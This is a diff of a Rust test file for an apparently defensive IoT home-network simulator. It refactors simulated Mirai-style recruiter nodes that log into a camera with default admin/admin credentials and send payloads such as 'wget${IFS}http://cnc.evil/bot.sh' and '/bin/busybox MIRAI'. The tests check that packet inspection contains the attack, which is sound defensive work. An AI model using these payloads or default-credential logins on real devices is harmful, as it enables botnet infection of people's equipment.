@@ -5,7 +5,7 @@
 use xlf::core::alerts::Severity;
 use xlf::core::framework::{HomeDevice, XlfConfig, XlfHome};
 use xlf::device::{SensorKind, VulnSet, Vulnerability};
-use xlf::simnet::{Context, Duration, Medium, Node, NodeId, Packet, SimTime};
+use xlf::simnet::{Body, Context, Duration, Medium, Node, NodeId, Packet, SimTime};
 
 struct Recruiter {
     gateway: NodeId,
@@ -18,15 +18,10 @@ impl Node for Recruiter {
         if tag == 1 {
             // Retry the recruitment a few times — radios drop packets.
             for i in 0..5u64 {
-                let login = Packet::new(
-                    ctx.id(),
-                    self.gateway,
-                    "login",
-                    b"wget${IFS}http://cnc.evil/bot.sh".to_vec(),
-                )
-                .with_meta("device", "cam")
-                .with_meta("user", "admin")
-                .with_meta("pass", "admin");
+                let (device, user, pass) = (Some("cam".into()), "admin", "admin");
+                let body = Body::Login { device, user, pass };
+                let payload = b"wget${IFS}http://cnc.evil/bot.sh".to_vec();
+                let login = Packet::new(ctx.id(), self.gateway, body, payload);
                 ctx.send_after(self.gateway, login, Duration::from_secs(i));
             }
         }
@@ -124,15 +119,10 @@ fn attack_during_learning_window_is_still_contained_by_dpi() {
             ctx.set_timer(Duration::from_secs(30), 1);
         }
         fn on_timer(&mut self, ctx: &mut Context<'_>, _tag: u64) {
-            let login = Packet::new(
-                ctx.id(),
-                self.gateway,
-                "login",
-                b"/bin/busybox MIRAI".to_vec(),
-            )
-            .with_meta("device", "cam")
-            .with_meta("user", "admin")
-            .with_meta("pass", "admin");
+            let (device, user, pass) = (Some("cam".into()), "admin", "admin");
+            let body = Body::Login { device, user, pass };
+            let payload = b"/bin/busybox MIRAI".to_vec();
+            let login = Packet::new(ctx.id(), self.gateway, body, payload);
             ctx.send(self.gateway, login);
         }
     }
